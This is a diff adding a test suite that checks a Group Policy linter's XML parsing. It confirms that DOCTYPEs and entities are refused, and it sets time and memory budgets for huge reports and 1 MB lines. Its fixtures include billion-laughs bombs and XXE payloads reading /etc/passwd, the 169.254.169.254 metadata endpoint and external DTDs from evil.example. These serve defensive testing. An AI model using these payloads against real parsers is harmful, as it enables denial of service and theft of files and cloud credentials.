@@ -1,0 +1,293 @@
+/**
+ * Hostile XML through the whole product path (parseBytes → parser → lint), for GPP Registry.xml,
+ * GPO reports and RSoP reports: entity bombs, external entities, parameter entities, DOCTYPEs,
+ * entity references in attributes, deep nesting, a 50 MB report and 1 MB lines.
+ * (test/unit/parsers/xml.test.ts covers the reader alone.)
+ *
+ * LIMITS AND MEASURED FIGURES (2-core VM shared with other jobs, Node 20). Re-measure with
+ *   node -e "require('fs').writeFileSync('/tmp/r.xml', require('./.test-out/test/unit/robustness/child.js').bigReport(50e6, 'utf8'))"
+ *   node --max-old-space-size=256 .test-out/test/unit/robustness/child.js --robust-child file gpreport.xml /tmp/r.xml
+ * - Files over LIMITS.maxFileBytes (64 MiB) are not read: one `file.limit` finding says so.
+ * - XML nesting deeper than LIMITS.maxXmlDepth (256) is not read: one `file.limit` finding; 100,000
+ *   levels take about 20 ms.
+ * - DOCTYPEs and entity declarations are refused (`file.unsafe-xml`), never expanded or fetched.
+ * - Memory of the XML tree: about 280 bytes per element, down from about 560 (xml.ts: spans are
+ *   numbers materialised on access, elements without attributes/children share frozen empty arrays,
+ *   whitespace-only texts are shared, text runs are joined once). The tree lives only while a file
+ *   is parsed; the settings keep their own small spans.
+ * - 50 MB GPO report (real SecurityOptions and Policy elements repeated: 218,000 elements as
+ *   UTF-16LE + BOM, 435,000 as UTF-8), parsed from its bytes read from disk (95 MB RSS before):
+ *     UTF-16LE: parse 0.4–1.0 s, lint < 0.1 s, peak RSS 250–256 MB (was 316 MB);
+ *     UTF-8:    parse 0.8–1.7 s, lint 0.1–0.2 s, peak RSS 355–380 MB (was 500 MB, and it ran out
+ *               of memory in a 256 MB V8 heap; it now completes there).
+ *   Budget asserted below: the child runs with --max-old-space-size=256, its RSS grows by less than
+ *   384 MB while parsing, and parse + lint stay under 50× the typical per-byte time of the real report.
+ * - 1 MB lines (a report on one line, a 1 MB attribute value, 1 MB of '<' or '&', a 1 MB start tag,
+ *   1 MB INF and .reg lines): each parses in under 0.1 s. Problem messages used to quote whole
+ *   names and values (a 1 MB key name gave a 1 MB message): xml.ts, gpp.ts and report.ts now quote
+ *   at most 100–400 characters. Open (catalog, not in this suite's files): a finding about a 1 MB
+ *   string value still repeats the whole value in its message (catalog/smb.ts `describe()`).
+ */
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { describe, test } from 'node:test';
+import { lint } from '../../../server/src/core/engine';
+import { LIMITS } from '../../../server/src/core/limits';
+import { parseBytes, parseText } from '../../../server/src/core/parse';
+import type { Finding, ParsedFile } from '../../../server/src/core/types';
+import { bigReport, type ChildResult, reportText } from './child';
+import { checkAll, LINT_OPTIONS, timed, typicalMs } from './support';
+
+// The parsers must not touch the network, whatever the file says: record any attempt in this process.
+require(path.join(__dirname, '../../../../test/helpers/no-network.js'));
+const attempts = (): unknown[] => (globalThis as unknown as { __relaylintNetworkAttempts?: unknown[] }).__relaylintNetworkAttempts ?? [];
+
+const CHILD = path.join(__dirname, 'child.js');
+const OPTIONS = LINT_OPTIONS[0];
+
+const GPP_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n';
+const gppItem = (value: string) =>
+  `<RegistrySettings clsid="{A3CCFC41-DFDB-43a5-8D26-0FE8B954DA51}">\n  <Registry clsid="{9CD4B2F4-923D-47f5-A062-E897DD1DAD50}" name="RequireSecuritySignature">\n` +
+  `    <Properties action="U" hive="HKEY_LOCAL_MACHINE" key="SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters" name="RequireSecuritySignature" type="REG_SZ" value="${value}"/>\n  </Registry>\n</RegistrySettings>\n`;
+
+const REPORT_NS = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns="http://www.microsoft.com/GroupPolicy/Settings"';
+const reportWith = (keyText: string, number: string) =>
+  `<GPO ${REPORT_NS}>\n  <Name>hostile</Name>\n  <Computer>\n    <ExtensionData>\n      <Extension xmlns:q1="http://www.microsoft.com/GroupPolicy/Settings/Security" xsi:type="q1:SecuritySettings">\n` +
+  `        <q1:SecurityOptions>\n          <q1:KeyName>${keyText}</q1:KeyName>\n          <q1:SettingNumber>${number}</q1:SettingNumber>\n        </q1:SecurityOptions>\n` +
+  `      </Extension>\n    </ExtensionData>\n  </Computer>\n</GPO>\n`;
+const rsopWith = (inner: string) => `<Rsop ${REPORT_NS.replace('Settings"', 'Rsop"')}>\n  <ComputerResults>${inner}</ComputerResults>\n</Rsop>\n`;
+
+const KEY = 'MACHINE\\System\\CurrentControlSet\\Services\\LanManServer\\Parameters\\RequireSecuritySignature';
+
+const BILLION_LAUGHS =
+  '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
+  Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">\n`).join('') +
+  ']>\n';
+const QUADRATIC = `<!DOCTYPE x [<!ENTITY a "${'A'.repeat(50_000)}">]>\n`;
+
+interface Hostile {
+  label: string;
+  name: string;
+  text: string;
+  /** Text that would only appear if an entity were expanded or fetched. */
+  forbidden: RegExp;
+}
+
+const HOSTILE: Hostile[] = [
+  { label: 'billion laughs in Registry.xml (value attribute)', name: 'Registry.xml', text: GPP_HEAD + BILLION_LAUGHS + gppItem('&lol9;'), forbidden: /(lol){2}/ },
+  { label: 'billion laughs in a GPO report (element text)', name: 'gpreport.xml', text: BILLION_LAUGHS + reportWith(`${KEY}&lol9;`, '&lol9;'), forbidden: /(lol){2}/ },
+  { label: 'billion laughs in an RSoP report', name: 'rsop.xml', text: BILLION_LAUGHS + rsopWith('<Name>&lol9;</Name>'), forbidden: /(lol){2}/ },
+  { label: 'quadratic blow-up (one 50 KB entity used 10,000 times)', name: 'Registry.xml', text: QUADRATIC + gppItem('&a;'.repeat(10_000)), forbidden: /A{100}/ },
+  {
+    label: 'external entity file:///etc/passwd in an attribute',
+    name: 'Registry.xml',
+    text: GPP_HEAD + '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + gppItem('&xxe;'),
+    forbidden: /root:|\/bin\/(ba)?sh/,
+  },
+  {
+    label: 'external entity over http in element text',
+    name: 'gpreport.xml',
+    text: '<!DOCTYPE GPO [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n' + reportWith(KEY, '&xxe;'),
+    forbidden: /ami-id|instance-id/,
+  },
+  {
+    label: 'parameter entities and an external DTD subset',
+    name: 'Registry.xml',
+    text: GPP_HEAD + '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; <!ENTITY % q "<!ENTITY leak \'x\'>"> %q;]>\n' + gppItem('&leak;'),
+    forbidden: /^x$/,
+  },
+  {
+    label: 'public external DTD only',
+    name: 'gpreport.xml',
+    text: '<!DOCTYPE GPO PUBLIC "-//evil//DTD//EN" "https://evil.example/gpo.dtd">\n' + reportWith(KEY, '0'),
+    forbidden: /evil\.example\/gpo\.dtd.*fetched/,
+  },
+  {
+    label: 'DOCTYPE with an internal subset and entity references inside attributes',
+    name: 'Registry.xml',
+    text: GPP_HEAD + '<!DOCTYPE r [<!ENTITY one "1"><!ATTLIST Properties value CDATA "&one;">]>\n' + gppItem('0000000&one;'),
+    forbidden: /^00000001$/,
+  },
+  {
+    label: 'DOCTYPE inside the root element',
+    name: 'Registry.xml',
+    text: gppItem('&z;').replace('<Registry ', '<!DOCTYPE x [<!ENTITY z "1">]><Registry '),
+    forbidden: /^1$/,
+  },
+];
+
+/** Every string reachable from the parse result and the findings. */
+function* strings(p: ParsedFile, findings: Finding[]): Generator<string> {
+  for (const s of p.settings) {
+    yield s.key;
+    yield s.name;
+    yield s.origin;
+    if (typeof s.value === 'string') yield s.value;
+    if (Array.isArray(s.value)) yield* s.value;
+  }
+  for (const pr of p.problems) yield pr.message;
+  for (const f of findings) {
+    yield f.message;
+    for (const fix of f.fixes) for (const e of fix.edits) yield e.newText;
+  }
+}
+
+describe('entities and DOCTYPEs are refused, never expanded or fetched', () => {
+  for (const h of HOSTILE) {
+    for (const encoding of ['utf-8', 'utf-16le-bom'] as const) {
+      test(`${h.label} (${encoding})`, () => {
+        const bytes = encoding === 'utf-8' ? Buffer.from(h.text, 'utf8') : Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(h.text, 'utf16le')]);
+        const heapBefore = process.memoryUsage().heapUsed;
+        const { value: p, ms } = timed(() => parseBytes(h.name, bytes));
+        const findings = checkAll(h.name, p, bytes.length, OPTIONS, { everyFix: true, idempotent: true });
+        const heapGrowth = process.memoryUsage().heapUsed - heapBefore;
+        assert.ok(ms < 250, `${ms.toFixed(1)} ms`);
+        assert.ok(heapGrowth < 64 * 1024 * 1024, `heap grew by ${(heapGrowth / 1e6).toFixed(1)} MB`);
+        const unsafe = findings.filter((f) => f.ruleId === 'file.unsafe-xml');
+        assert.ok(unsafe.length >= 1, `no file.unsafe-xml finding: ${findings.map((f) => f.ruleId)}`);
+        assert.equal(unsafe[0].severity, 'error');
+        assert.match(unsafe[0].message, /DOCTYPE declaration refused/);
+        // No expansion: nothing in the result is longer than the input or looks expanded.
+        for (const s of strings(p, findings)) {
+          assert.ok(s.length <= h.text.length, `a ${s.length}-character string from a ${h.text.length}-character file`);
+          assert.doesNotMatch(s, h.forbidden);
+        }
+        // Where a setting was read, its value is the reference as written.
+        for (const s of p.settings) if (typeof s.value === 'string' && s.value.includes('&')) assert.match(s.value, /^([^&]*&[A-Za-z0-9]+;)+[^&]*$/);
+        assert.deepEqual(attempts(), []);
+      });
+    }
+  }
+
+  test('an entity reference in a value without any DOCTYPE is a parse problem, left as written', () => {
+    const p = parseText('Registry.xml', GPP_HEAD + gppItem('&lol;'));
+    const findings = checkAll('Registry.xml', p, undefined, OPTIONS);
+    assert.deepEqual(p.settings.map((s) => s.value), ['&lol;']);
+    assert.ok(findings.some((f) => f.ruleId === 'file.parse' && /&lol;/.test(f.message)));
+  });
+});
+
+describe('size and shape limits', () => {
+  test('100,000 levels of nesting: one file.limit finding, bounded time, later siblings still read', () => {
+    const n = 100_000;
+    const cases: [string, string][] = [
+      ['Registry.xml', GPP_HEAD + '<RegistrySettings>' + '<Collection>'.repeat(n) + '</Collection>'.repeat(n) + gppItem('1').replace(/^<RegistrySettings[^>]*>/, '')],
+      ['gpreport.xml', `<GPO ${REPORT_NS}><Computer>${'<x>'.repeat(n)}${'</x>'.repeat(n)}</Computer></GPO>`],
+      ['rsop.xml', rsopWith('<a>'.repeat(n) + '</a>'.repeat(n))],
+      ['gpreport.xml', `<GPO ${REPORT_NS}>${'<x>'.repeat(n)}`],
+    ];
+    for (const [name, text] of cases) {
+      const bytes = Buffer.from(text, 'utf8');
+      const { value: p, ms } = timed(() => parseBytes(name, bytes));
+      const findings = checkAll(name, p, bytes.length, OPTIONS);
+      assert.ok(ms < 2000, `${name}: ${ms.toFixed(0)} ms`);
+      const limit = findings.filter((f) => f.ruleId === 'file.limit');
+      assert.equal(limit.length, 1, name);
+      assert.match(limit[0].message, new RegExp(`deeper than ${LIMITS.maxXmlDepth} levels`));
+    }
+    // The GPP item after the deep collection is read.
+    const p = parseBytes('Registry.xml', Buffer.from(cases[0][1], 'utf8'));
+    assert.deepEqual(p.settings.map((s) => s.name), ['RequireSecuritySignature']);
+  });
+
+  test('a file over LIMITS.maxFileBytes is not read, with a clear message', () => {
+    const bytes = Buffer.alloc(LIMITS.maxFileBytes + 1, 0x20);
+    const { value: p, ms } = timed(() => parseBytes('gpreport.xml', bytes));
+    const findings = checkAll('gpreport.xml', p, bytes.length, OPTIONS);
+    assert.ok(ms < 100, `${ms} ms`);
+    assert.deepEqual(findings.map((f) => f.ruleId), ['file.limit']);
+    assert.match(findings[0].message, /relaylint reads files up to 67108864 bytes \(64 MiB\)\. It was not checked\./);
+  });
+});
+
+function child(args: string[], heapMb: number): ChildResult {
+  const r = spawnSync(process.execPath, [`--max-old-space-size=${heapMb}`, CHILD, '--robust-child', ...args], { encoding: 'utf8', timeout: 180_000, maxBuffer: 16 * 1024 * 1024 });
+  assert.equal(r.status, 0, `child ${args.join(' ')} failed with a ${heapMb} MB heap (signal ${r.signal}): ${r.stderr.slice(-1500)}`);
+  return JSON.parse(r.stdout) as ChildResult;
+}
+
+describe('large inputs: bounded time and memory (in a child process with a heap budget)', () => {
+  /** V8 heap of the child; the 50 MB report needed more than 512 MB before the xml.ts changes. */
+  const HEAP_MB = 256;
+  /** RSS the parse may add on top of the input it was given. */
+  const GROWTH_MB = 384;
+
+  test('a 50 MB GPO report (UTF-16LE + BOM and UTF-8) parses within the heap budget and time cap', () => {
+    // Typical time per byte: the real report the big one is built from, in this process.
+    const real = bigReport(0, 'utf16');
+    const perByte = typicalMs(() => lint(parseBytes('gpreport.xml', real), OPTIONS)) / real.length;
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'relaylint-50mb-'));
+    for (const encoding of ['utf16', 'utf8'] as const) {
+      // Built here and written to disk, so the child holds only the file's bytes before it parses.
+      const file = path.join(dir, `gpreport-${encoding}.xml`);
+      fs.writeFileSync(file, bigReport(50_000_000, encoding));
+      const res = child(['file', 'gpreport.xml', file], HEAP_MB);
+      fs.rmSync(file);
+      const c = res.cases[0];
+      const capMs = Math.max(10_000, 50 * perByte * c.bytes);
+      assert.ok(c.bytes >= 50_000_000, `${c.bytes} bytes`);
+      assert.ok(c.settings > 10_000, `${c.settings} settings`);
+      assert.deepEqual(c.problemCodes, []);
+      assert.ok(c.parseMs + c.lintMs < capMs, `${encoding}: ${(c.parseMs + c.lintMs).toFixed(0)} ms, cap ${capMs.toFixed(0)} ms`);
+      const growth = res.maxRssMB - res.rssBeforeMB;
+      assert.ok(growth < GROWTH_MB, `${encoding}: RSS grew by ${growth.toFixed(0)} MB while parsing`);
+      process.stdout.write(
+        `# 50 MB report (${encoding}): ${c.bytes} bytes, parse ${c.parseMs.toFixed(0)} ms, lint ${c.lintMs.toFixed(0)} ms, ` +
+          `peak RSS ${res.maxRssMB.toFixed(0)} MB (${res.rssBeforeMB.toFixed(0)} MB with the file read), heap limit ${HEAP_MB} MB\n`,
+      );
+    }
+  });
+
+  test('1 MB lines in every format: bounded time and memory, short messages', () => {
+    const res = child(['long-lines'], HEAP_MB);
+    assert.ok(res.cases.length >= 10);
+    for (const c of res.cases) {
+      assert.ok(c.parseMs + c.lintMs < 5000, `${c.name}: ${(c.parseMs + c.lintMs).toFixed(0)} ms`);
+      assert.ok(c.problems <= LIMITS.maxProblemsPerFile + 2, `${c.name}: ${c.problems} problems`);
+    }
+    // Parse problems quote a short excerpt, never the line (finding messages: see the note at the top).
+    const reportCase = res.cases.find((c) => c.name.startsWith('report on one'));
+    assert.ok(reportCase && reportCase.settings > 1000);
+    assert.ok(res.maxRssMB - res.rssBeforeMB < 256, `RSS grew by ${(res.maxRssMB - res.rssBeforeMB).toFixed(0)} MB`);
+  });
+
+  test('parse problems on 1 MB lines quote short excerpts', () => {
+    const big = 'x'.repeat(1 << 20);
+    const inputs: [string, string][] = [
+      ['GptTmpl.inf', `[Registry Values]\r\nMACHINE\\${big}\r\n`],
+      ['GptTmpl.inf', `[${big}\r\n`],
+      ['import.reg', `Windows Registry Editor Version 5.00\r\n[HKEY_NOWHERE\\${big}]\r\n`],
+      ['import.reg', `Windows Registry Editor Version 5.00\r\n[HKEY_LOCAL_MACHINE\\k]\r\n"v"=${big}\r\n`],
+      ['Registry.xml', `<RegistrySettings><${big}/></RegistrySettings>`],
+      ['Registry.xml', `<RegistrySettings a="${big}`],
+      ['gpreport.xml', `<GPO ${REPORT_NS}><Computer>${big}<</Computer></GPO>`],
+      ['gpreport.xml', reportWith(`MACHINE\\${big}`, big)],
+      ['gpreport.xml', `<${big} ${REPORT_NS}/>`],
+      ['Registry.xml', `<RegistrySettings><a></${big}></RegistrySettings>`],
+      ['Registry.xml', `<RegistrySettings><${big}><b></RegistrySettings>`],
+      ['Registry.xml', `<RegistrySettings><a ${big}="1" ${big}="2" ${big}/></RegistrySettings>`],
+      ['Registry.xml', `<RegistrySettings/><${big}/>`],
+      ['Registry.xml', `<p:RegistrySettings xmlns:${big}=""><${big}:a/></p:RegistrySettings>`],
+      ['Registry.xml', GPP_HEAD + gppItem('1').replace('action="U"', `action="${big}"`).replace('type="REG_SZ"', `type="${big}"`).replace('name="RequireSecuritySignature">', `name="${big}">`)],
+      ['Registry.xml', GPP_HEAD + gppItem('1').replace('type="REG_SZ" value="1"', `type="REG_DWORD" value="${big}"`).replace('hive="HKEY_LOCAL_MACHINE"', `hive="${big}"`)],
+      ['Registry.xml', `<RegistrySettings>${'<Registry name="a"><Properties action="U" hive="HKEY_LOCAL_MACHINE" key="K" name="v" type="REG_SZ" value="1"/></Registry>'.repeat(2).replace(/key="K"/g, `key="${big}"`)}</RegistrySettings>`],
+    ];
+    for (const [name, text] of inputs) {
+      const p = parseText(name, text);
+      const findings = checkAll(name, p, undefined, OPTIONS);
+      for (const pr of p.problems) assert.ok(pr.message.length < 2048, `${name}: a ${pr.message.length}-character problem message`);
+      void findings;
+    }
+  });
+
+  test('the report generator keeps the real report valid (sanity check of the 50 MB input)', () => {
+    const text = reportText();
+    const small = bigReport(text.length * 2 * 3, 'utf16');
+    const p = parseBytes('gpreport.xml', small);
+    assert.deepEqual(p.problems, []);
+    assert.ok(p.settings.length > parseBytes('gpreport.xml', bigReport(0, 'utf16')).settings.length);
+  });
+});
